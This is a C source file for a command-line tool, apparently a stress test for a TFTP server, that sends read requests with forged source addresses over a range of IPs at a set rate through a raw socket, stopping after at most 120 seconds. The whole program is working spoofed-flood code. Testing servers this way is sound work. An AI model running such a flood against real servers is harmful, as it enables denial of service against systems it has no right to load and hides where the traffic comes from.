/* SPDX-License-Identifier: ISC */
/*
 * Read requests of TFTP with forged senders, as an attacker on the LAN sends them: nobody behind
 * them ever answers. Bounded: ends by itself.
 *
 *   tftp-flood SERVER FIRST LAST RATE SECONDS NAME
 *
 * From the addresses FIRST to LAST in turn, each from random ports, RATE requests a second.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "common/clock.h"
#include "common/str.h"

#define TFTP_PORT 69
#define LARGEST_RATE 200000
#define LONGEST_S 120
#define PACKET_SIZE 600u

struct flood {
	int socket;
	struct in_addr server, first, last;
	uint64_t rate, seconds;
	const char *name;
	uint64_t random, sent;
};

static uint32_t next_random(struct flood *flood)
{
	flood->random = flood->random * 6364136223846793005u + 1442695040888963407u;
	return (uint32_t)(flood->random >> 33);
}

/* With its NUL. */
static uint8_t *put_text(uint8_t *at, const char *text)
{
	do {
		*at++ = (uint8_t)*text;
	} while (*text++);
	return at;
}

/* The checksum of UDP may be 0, "none" (RFC 768); the kernel fills in IP's. */
static size_t make_packet(struct flood *flood, uint8_t packet[static PACKET_SIZE])
{
	const uint32_t count = ntohl(flood->last.s_addr) - ntohl(flood->first.s_addr) + 1;
	const size_t name = strlen(flood->name) + 1,
		     payload = 2 + name + sizeof("octet") + sizeof("blksize") + sizeof("1468");
	const uint32_t sender = htonl(ntohl(flood->first.s_addr) + (uint32_t)(flood->sent % count));
	struct iphdr ip = { .version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons((uint16_t)(sizeof(ip) + sizeof(struct udphdr) + payload)),
		.saddr = sender,
		.daddr = flood->server.s_addr };
	struct udphdr udp = { .source = htons((uint16_t)(1024 + next_random(flood) % 60000)),
		.dest = htons(TFTP_PORT),
		.len = htons((uint16_t)(sizeof(udp) + payload)) };
	uint8_t *at = packet;

	at = (uint8_t *)memcpy(at, &ip, sizeof(ip)) + sizeof(ip);
	at = (uint8_t *)memcpy(at, &udp, sizeof(udp)) + sizeof(udp);
	*at++ = 0;
	*at++ = 1; /* RRQ */
	at = put_text(at, flood->name);
	at = put_text(at, "octet");
	at = put_text(at, "blksize");
	at = put_text(at, "1468");
	return (size_t)(at - packet);
}

static int send_one(struct flood *flood)
{
	const struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = flood->server };
	uint8_t packet[PACKET_SIZE];
	size_t size = make_packet(flood, packet);

	flood->sent++;
	if (sendto(flood->socket, packet, size, 0, (const struct sockaddr *)&to, sizeof(to)) < 0 &&
		errno != ENOBUFS && errno != EAGAIN)
		return -errno;
	return 0;
}

static int run(struct flood *flood)
{
	const uint64_t began_ns = clock_monotonic_ns();
	uint64_t now_ns = began_ns;
	int result = 0;

	while (result == 0 && now_ns - began_ns < flood->seconds * NS_PER_S) {
		const uint64_t due = (now_ns - began_ns) / 1000 * flood->rate / 1000000;

		while (result == 0 && flood->sent < due)
			result = send_one(flood);
		usleep(1000);
		now_ns = clock_monotonic_ns();
	}
	printf("%llu requests\n", (unsigned long long)flood->sent);
	return result;
}

static int parse(struct flood *flood, int argc, char **argv)
{
	if (argc != 7 || strlen(argv[6]) > 400)
		return -EINVAL;
	flood->name = argv[6];
	if (str_parse_address(argv[1], &flood->server) != 0 ||
		str_parse_address(argv[2], &flood->first) != 0 ||
		str_parse_address(argv[3], &flood->last) != 0 ||
		ntohl(flood->last.s_addr) < ntohl(flood->first.s_addr) ||
		str_parse_u64(argv[4], 1, LARGEST_RATE, &flood->rate) != 0 ||
		str_parse_u64(argv[5], 1, LONGEST_S, &flood->seconds) != 0)
		return -EINVAL;
	return 0;
}

int main(int argc, char **argv)
{
	struct flood flood = { .random = clock_monotonic_ns() };
	int result = parse(&flood, argc, argv);

	if (result != 0) {
		fprintf(stderr, "usage: tftp-flood SERVER FIRST LAST RATE SECONDS NAME\n");
		return 2;
	}
	flood.socket = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (flood.socket < 0) {
		fprintf(stderr, "tftp-flood: no raw socket: %s\n", strerror(errno));
		return 1;
	}
	result = run(&flood);
	close(flood.socket);
	if (result != 0)
		fprintf(stderr, "tftp-flood: can't send: %s\n", strerror(-result));
	return result == 0 ? 0 : 1;
}
